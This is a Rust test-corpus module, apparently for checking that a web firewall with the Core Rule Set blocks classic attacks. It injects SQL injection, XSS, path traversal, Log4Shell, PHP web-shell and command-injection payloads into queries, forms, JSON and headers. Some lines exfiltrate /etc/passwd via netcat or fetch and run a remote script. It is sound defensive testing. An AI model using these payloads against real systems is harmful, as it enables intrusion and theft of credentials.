//! Attacks that every engine with the Core Rule Set has to refuse at its lowest level, in every place a value can be.

use serde_json::json;

use super::random::Random;
use super::words::{self, form_encoded};
use super::{Expect, Request, headers};

/// Values, each of another family of rules.
const VALUES: &[&str] = &[
    "1 UNION SELECT username, password FROM users-- -",
    "' OR '1'='1' -- ",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../../../etc/passwd",
    "; cat /etc/passwd | nc 192.0.2.1 4444",
    "$(wget http://192.0.2.1/x.sh -O- | sh)",
    "php://filter/convert.base64-encode/resource=index.php",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://192.0.2.1/a}",
    "http://192.0.2.1/shell.txt?",
    "java.lang.Runtime.getRuntime().exec('id')",
];

/// One in twenty of the whole corpus.
pub fn all(random: &mut Random) -> Vec<Request> {
    let mut requests: Vec<Request> =
        VALUES.iter().enumerate().map(|(index, value)| carry(random, value, index)).collect();
    let mut scanner = Request::new("attacks", "GET", "/admin/".to_owned(), headers::page(random));
    for (name, value) in &mut scanner.headers {
        if name == "User-Agent" {
            *value = "sqlmap/1.8.2#stable (https://sqlmap.org)".to_owned();
        }
    }
    requests.push(scanner);
    requests.push(Request::new("attacks", "GET", "/.git/config".to_owned(), headers::page(random)));
    let mut cookie = Request::new("attacks", "GET", "/cart".to_owned(), headers::page(random));
    for (name, value) in &mut cookie.headers {
        if name == "Cookie" {
            *value = "session=1%27 UNION SELECT password FROM users--".to_owned();
        }
    }
    requests.push(cookie);
    requests.iter_mut().for_each(|request| request.expect = Expect::Block);
    requests
}

/// Puts a value into a query, a form or JSON.
fn carry(random: &mut Random, value: &str, index: usize) -> Request {
    match index % 3 {
        0 => {
            let target = format!("/search?page={}&q={}", random.between(1, 9), form_encoded(value));
            Request::new("attacks", "GET", target, headers::page(random))
        }
        1 => {
            let body = format!(
                "name={}&email={}&message={}",
                form_encoded(&words::person(random)),
                form_encoded(&words::email(random)),
                form_encoded(value)
            );
            Request::new("attacks", "POST", "/contact".to_owned(), headers::page(random))
                .with_body("application/x-www-form-urlencoded", body.into_bytes())
        }
        _ => {
            let body =
                json!({"customer": words::person(random), "items": [{"sku": random.hex(8), "note": value}]});
            Request::new("attacks", "POST", "/api/v2/orders".to_owned(), headers::script(random))
                .with_body("application/json", body.to_string().into_bytes())
        }
    }
}
